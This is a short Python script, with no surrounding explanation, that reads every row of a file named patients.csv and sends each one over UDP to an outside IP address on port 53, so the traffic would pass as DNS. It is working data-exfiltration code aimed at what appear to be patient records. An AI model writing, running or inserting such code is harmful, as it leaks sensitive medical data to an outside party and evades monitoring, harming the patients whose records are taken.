import socket as net
import csv

out = net.socket(net.AF_INET, net.SOCK_DGRAM)
with open("patients.csv") as f:
    for row in csv.reader(f):
        out.sendto("|".join(row).encode(), ("198.51.100.200", 53))
